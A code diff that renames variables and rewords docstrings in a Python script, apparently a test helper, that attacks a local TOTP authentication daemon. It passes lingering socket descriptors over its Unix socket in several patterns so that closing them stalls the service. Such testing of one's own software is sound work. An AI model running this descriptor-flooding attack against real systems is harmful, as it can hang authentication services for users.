@@ -1,4 +1,4 @@
-"""What a hostile user sends to totpd: descriptors whose closing takes for ever."""
+"""What an attacker sends to totpd: descriptors that take for ever to close."""
 import os
 import socket
 import struct
@@ -29,11 +29,11 @@ def lingering():
     return sender.detach()
 
 
-def send(door, message, *extra):
-    """With a lingering connection, whose last reference is then under way. Was it taken?"""
+def send(connection, message, *extra):
+    """Send it with the last reference to a lingering connection. Was it accepted?"""
     descriptor = lingering()
     try:
-        socket.send_fds(door, [message], [descriptor, *extra])
+        socket.send_fds(connection, [message], [descriptor, *extra])
     except OSError:
         return False  # and kept open: to close it here would take ten minutes
     os.close(descriptor)
@@ -44,34 +44,34 @@ def request(user):
     return wire.request(wire.LOOK, user)
 
 
-def in_a_request(door, user):
-    return send(door, request(user))
+def in_a_request(connection, user):
+    return send(connection, request(user))
 
 
-def in_noise(door, _):
-    return send(door, b"x")
+def in_noise(connection, _):
+    return send(connection, b"x")
 
 
-def behind_a_request(door, user):
-    door.send(request(user))
-    return send(door, b"x")
+def behind_a_request(connection, user):
+    connection.send(request(user))
+    return send(connection, b"x")
 
 
-def before_a_request(door, user):
-    sent = send(door, b"x")
-    door.send(request(user))
+def before_a_request(connection, user):
+    sent = send(connection, b"x")
+    connection.send(request(user))
     return sent
 
 
-def and_gone(door, user):
-    sent = send(door, request(user))
-    door.close()
+def and_gone(connection, user):
+    sent = send(connection, request(user))
+    connection.close()
     return sent
 
 
-def with_the_connection_itself(door, user):
-    sent = send(door, request(user), door.fileno())
-    door.close()
+def with_the_connection_itself(connection, user):
+    sent = send(connection, request(user), connection.fileno())
+    connection.close()
     return sent
 
 
@@ -80,14 +80,14 @@ SHAPES = [in_a_request, in_noise, behind_a_request, before_a_request, and_gone,
 
 
 def attack(user, rounds, path="/run/pam_totp/socket"):
-    """All shapes so often; how many descriptors were taken? Then stay, with the other ends."""
-    doors, taken = [], 0
+    """All shapes so often; print how many descriptors were accepted. Then keep the other ends."""
+    connections, taken = [], 0
     for _ in range(rounds):
         for shape in SHAPES:
             try:
-                door = wire.connect(path)
-                doors.append(door)
-                taken += shape(door, user)
+                connection = wire.connect(path)
+                connections.append(connection)
+                taken += shape(connection, user)
             except OSError:
                 pass
     print(taken, flush=True)
